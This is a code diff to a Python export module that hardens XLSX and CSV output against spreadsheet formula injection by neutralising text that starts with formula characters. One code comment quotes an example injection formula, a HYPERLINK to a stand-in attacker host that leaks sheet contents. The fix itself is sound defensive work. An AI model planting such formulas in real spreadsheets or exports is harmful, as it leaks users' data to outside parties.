@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import datetime as dt
 from collections.abc import Iterable, Sequence
+from decimal import Decimal
 from io import BytesIO
 from typing import Any
 
@@ -16,6 +17,17 @@ from openpyxl.styles import Font
 
 XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 
+# Text that Excel or LibreOffice would run as a formula ("CSV/formula injection"): a petition
+# or an imported cell reading =HYPERLINK("http://evil.example/?x="&A1,"click") turns into a
+# live link that leaks the sheet. Tab and carriage return count too: a spreadsheet skips them
+# and reads the formula behind.
+FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _neutralised(text: str) -> str:
+    """A leading apostrophe makes any spreadsheet show the text as typed, never evaluate it."""
+    return "'" + text if text.startswith(FORMULA_PREFIXES) else text
+
 
 def _cell(value: Any) -> Any:
     if isinstance(value, dt.datetime):
@@ -23,9 +35,10 @@ def _cell(value: Any) -> Any:
         return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value
     if value is None:
         return ""
-    if isinstance(value, (int, float, dt.date)):
+    # Numbers stay numbers (a negative amount is not a formula); only text is neutralised.
+    if isinstance(value, (int, float, Decimal, dt.date)):
         return value
-    return str(value)
+    return _neutralised(str(value))
 
 
 def xlsx_response(
@@ -49,6 +62,13 @@ def xlsx_response(
                 cell = WriteOnlyCell(ws, value=value)
                 cell.number_format = "DD/MM/YYYY"
                 out.append(cell)
+            elif isinstance(value, str) and value.startswith("'"):
+                # A string cell by declaration, not by openpyxl's guess (it takes any str that
+                # starts with "=" for a formula). Only these cells: a cell object for every
+                # text value made a 10,000-row export 40-60% slower.
+                cell = WriteOnlyCell(ws, value=value)
+                cell.data_type = "s"
+                out.append(cell)
             else:
                 out.append(value)
         ws.append(out)
@@ -68,10 +88,8 @@ def csv_response(
     writer = csv.writer(response)
     writer.writerow(headers)
     for row in rows:
+        # The same values as the workbook (text neutralised, local times), dates as text.
         writer.writerow(
-            [
-                v.strftime("%d/%m/%Y") if isinstance(v, dt.date) else ("" if v is None else v)
-                for v in row
-            ]
+            [v.strftime("%d/%m/%Y") if isinstance(v, dt.date) else v for v in map(_cell, row)]
         )
     return response
